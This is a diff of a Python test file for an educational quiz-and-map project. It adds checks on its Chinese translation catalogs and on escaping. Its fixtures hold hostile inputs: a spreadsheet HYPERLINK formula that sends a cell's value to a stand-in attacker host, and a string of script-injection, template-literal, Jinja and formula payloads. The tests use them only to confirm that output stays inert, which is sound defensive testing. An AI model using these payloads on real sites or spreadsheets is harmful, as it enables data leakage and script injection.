@@ -22,10 +22,13 @@ from pathlib import Path
 import pytest
 import yaml
 
-from shared_future import classroom, data, escaping, hub_links, progress, validate
+from shared_future import classroom, escaping, hub_links, progress, validate
 
 REAL_DATA = Path(__file__).resolve().parents[1] / "data"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+# a translator's text that tries every context it reaches: page, popup in a JS template literal,
+# JSON in a script, a Jinja template, a spreadsheet
+HOSTILE_ZH = "=1+1 </script><img src=x onerror=alert(1)> ${alert(2)} `+alert(3)+` {{ 'sf' ~ 'jinja' }} 中文"
 
 
 # --------------------------------------------------------------------------- data and quiz copies
@@ -137,6 +140,32 @@ TWO_GOOD_ROWS = "term,chinese,pinyin,definition,source_url\n"
 GLOSSARY = "data/glossary.csv:2:definition:"
 SOON = (date.today() + timedelta(days=40)).isoformat()  # in the future, within the schema's years
 ITALY = find_row("bri_countries", "iso3", "ITA")
+
+CATALOG = "data/locale/zh_CN/LC_MESSAGES/quizzes/origins.po"
+
+
+def po_edit(relative: str, edit):
+    """A catalog of the Chinese edition (under data/locale/zh_CN/LC_MESSAGES/) changed by `edit(text)`."""
+
+    def mutate(folder: Path) -> None:
+        path = folder / "locale" / "zh_CN" / "LC_MESSAGES" / relative
+        path.write_bytes(edit(path.read_bytes()))
+
+    return mutate
+
+
+def po_translate(relative: str, context: str, msgstr: str, msgid: str | None = None):
+    """One entry of a catalog given a msgstr (and, to break it, another msgid)."""
+
+    def edit(text: bytes) -> bytes:
+        head, entry = text.decode("utf-8").split(f'msgctxt "{context}"\n', 1)
+        old_id, rest = entry.split("\nmsgstr", 1)
+        new_id = f"msgid {json.dumps(msgid, ensure_ascii=False)}" if msgid is not None else old_id
+        value = json.dumps(msgstr, ensure_ascii=False)
+        return (head + f'msgctxt "{context}"\n{new_id}\nmsgstr {value}' + rest.split("\n", 1)[1]).encode("utf-8")
+
+    return po_edit(relative, edit)
+
 
 VALIDATOR_CASES = [
     # one-line, bounded, clean fields
@@ -396,15 +425,53 @@ VALIDATOR_CASES = [
         quiz(id="origins-1"),
         "data/quizzes/what_is_it.yaml: question origins-1: field id: duplicate",
     ),
+    # the Chinese edition's quiz and data catalogs (data/locale/)
+    (
+        "catalog that is not gettext",
+        po_edit("quizzes/origins.po", lambda t: b"<html>not a catalog</html>\n"),
+        CATALOG + ": not a valid gettext catalog (Unknown or misformatted keyword on 0)",
+    ),
+    (
+        "catalog not in UTF-8",
+        po_edit("quizzes/origins.po", lambda t: t.replace("谁".encode(), b"\xff") + b"\n#. \xff\n"),
+        CATALOG + ": not a valid gettext catalog",
+    ),
+    (
+        "catalog of a quiz that does not exist",
+        lambda folder: shutil.copy(
+            folder / "locale/zh_CN/LC_MESSAGES/quizzes/origins.po", folder / "locale/zh_CN/LC_MESSAGES/quizzes/essay.po"
+        ),
+        "data/locale/zh_CN/LC_MESSAGES/quizzes/essay.po: there is no quiz in data/quizzes called 'essay'",
+    ),
+    (
+        "translation of a question that does not exist",
+        po_edit(
+            "quizzes/origins.po",
+            lambda t: t + b'\nmsgctxt "origins-99.prompt"\nmsgid "Who?"\nmsgstr "\xe8\xb0\x81\xef\xbc\x9f"\n',
+        ),
+        CATALOG + ": msgctxt 'origins-99.prompt' (question origins-99: field prompt): names no question",
+    ),
+    (
+        "translation of an English text that changed",
+        po_translate("quizzes/origins.po", "origins-1.prompt", "谁？", msgid="Who read it?"),
+        CATALOG + ": msgctxt 'origins-1.prompt' (question origins-1: field prompt): msgid no longer matches",
+    ),
+    (
+        "translation of a data row that does not exist",
+        po_edit(
+            "data/timeline.po",
+            lambda t: t + b'\nmsgctxt "1999-01-01/Nothing.title"\nmsgid "Nothing"\nmsgstr "\xe6\x97\xa0"\n',
+        ),
+        "data/locale/zh_CN/LC_MESSAGES/data/timeline.po: msgctxt '1999-01-01/Nothing.title' "
+        "(row 1999-01-01/Nothing: field title): names no row or column",
+    ),
+    (
+        "translation without msgctxt",
+        po_edit("data/pillars.po", lambda t: t + b'\nmsgid "politics"\nmsgstr "\xe6\x94\xbf\xe6\xb2\xbb"\n'),
+        "data/locale/zh_CN/LC_MESSAGES/data/pillars.po: msgid 'politics': has no msgctxt",
+    ),
+    ("hostile translation is accepted (and escaped)", po_translate("quizzes/origins.po", "title", HOSTILE_ZH), None),
 ]
-
-
-@pytest.fixture
-def data_copy(tmp_path, monkeypatch):
-    copy = tmp_path / "data"
-    shutil.copytree(REAL_DATA, copy)
-    monkeypatch.setenv(data.DATA_ENV_VAR, str(copy))
-    return copy
 
 
 @pytest.mark.parametrize("change, expected", [pytest.param(c, e, id=i) for i, c, e in VALIDATOR_CASES])
@@ -660,7 +727,20 @@ def test_folium_text_cannot_leave_folium_popups_and_tooltips():
     document = map_display.document(m) or m.get_root().render()
     for live in ("<img", "${", "`+alert", "\\u0041", "alert(1)></script>"):
         assert live not in document, live
-    assert escaping.folium_text(FOLIUM_PAYLOAD).count("&#36;{") == 1
+    assert escaping.folium_text(FOLIUM_PAYLOAD).count("&#36;&#123;") == 1  # braces too: folium compiles tooltips
+
+
+def test_a_hostile_translation_cannot_leave_a_folium_template_literal():
+    """A student's folium popup of translated text: the same escaping as English text."""
+    import folium
+
+    m = folium.Map(tiles=None)
+    popup = folium.Popup(escaping.folium_text(HOSTILE_ZH))
+    folium.CircleMarker([0, 0], tooltip=escaping.folium_text(HOSTILE_ZH), popup=popup).add_to(m)
+    document = m.get_root().render()
+    for live in ("<img", "${alert", "`+alert", "sfjinja"):
+        assert live not in document, live
+    assert "中文" in document
 
 
 def test_map_tables_show_hostile_text_as_text():
@@ -673,3 +753,77 @@ def test_map_tables_show_hostile_text_as_text():
         assert not soup.find_all(["script", "img"]), m.sf_name
         assert HOSTILE in soup.get_text(), m.sf_name
         assert all(a["href"].startswith("https://") for a in soup.find_all("a")), m.sf_name
+
+
+# --------------------------------------------------------------------------- hostile translations (Chinese edition)
+
+
+def hostile_catalogs(folder: Path) -> None:
+    """Every message of every quiz and data catalog translated with HOSTILE_ZH."""
+    import io
+
+    from babel.messages.pofile import read_po, write_po
+
+    for path in (folder / "locale").rglob("*.po"):
+        catalog = read_po(path.open("rb"))
+        for number, message in enumerate(catalog):
+            if message.id:
+                message.string = f"{HOSTILE_ZH} {number}"  # numbered: keys and options stay distinct
+        out = io.BytesIO()
+        write_po(out, catalog, width=0)
+        path.write_bytes(out.getvalue())
+
+
+def no_live_payload(document: str) -> None:
+    """No element, no way out of a script, no Jinja evaluated (text in JSON strings is inert)."""
+    for live in ("<img", "sfjinja", "</script><img"):
+        assert live not in document, live
+
+
+def test_hostile_translations_stay_text_in_quizzes(data_copy):
+    from bs4 import BeautifulSoup
+
+    from shared_future.quiz import quiz
+
+    hostile_catalogs(data_copy)
+    html = quiz("origins", live=False, lang="zh")._repr_mimebundle_()["text/html"]
+    soup = BeautifulSoup(html, "html.parser")
+    assert not soup.find_all("img") and len(soup.find_all("script")) == 2
+    assert HOSTILE_ZH in soup.get_text()
+    key = json.loads(soup.find("script", type="application/json").get_text())
+    assert key["questions"][0]["explanation"].startswith(HOSTILE_ZH)
+    no_live_payload(html.replace(escaping.html_text(HOSTILE_ZH), ""))
+
+
+def test_hostile_translations_stay_text_in_maps_and_the_timeline(data_copy):
+    from bs4 import BeautifulSoup
+
+    from shared_future import maps
+    from shared_future.timeline import timeline
+
+    hostile_catalogs(data_copy)
+    for make in maps.ALL_MAPS:
+        m = make(tiles=False, lang="zh")
+        document = m.get_root().render()
+        no_live_payload(document)
+        assert "\\u4e2d\\u6587" in document or "中文" in document, make.__name__  # the translations are there
+        table = BeautifulSoup(m.table.html(), "html.parser")
+        assert not table.find_all(["script", "img"]), make.__name__
+    html = timeline(lang="zh")._repr_html_()
+    soup = BeautifulSoup(html, "html.parser")
+    assert not soup.find_all("img") and HOSTILE_ZH in soup.get_text()
+
+
+def test_a_hostile_translated_answer_reaches_the_spreadsheet_as_text(data_copy, progress_at, tmp_path):
+    from shared_future.quiz import quiz
+
+    hostile_catalogs(data_copy)
+    progress_at(tmp_path / "progress.json")
+    live = quiz("origins", live=True, lang="zh").widgets
+    question = live.questions[0]
+    question.inputs[0].value = question.order[0]
+    question.check_answer()
+    exported = progress.export_csv(tmp_path / "ana.csv")
+    rows = list(csv.reader(exported.open(encoding="utf-8")))
+    assert rows[0] == progress.EXPORT_COLUMNS  # the machine-readable header in every language
+    assert rows[1][3].startswith("'=1+1") and escaping.spreadsheet_value(rows[1][3]).startswith(HOSTILE_ZH)
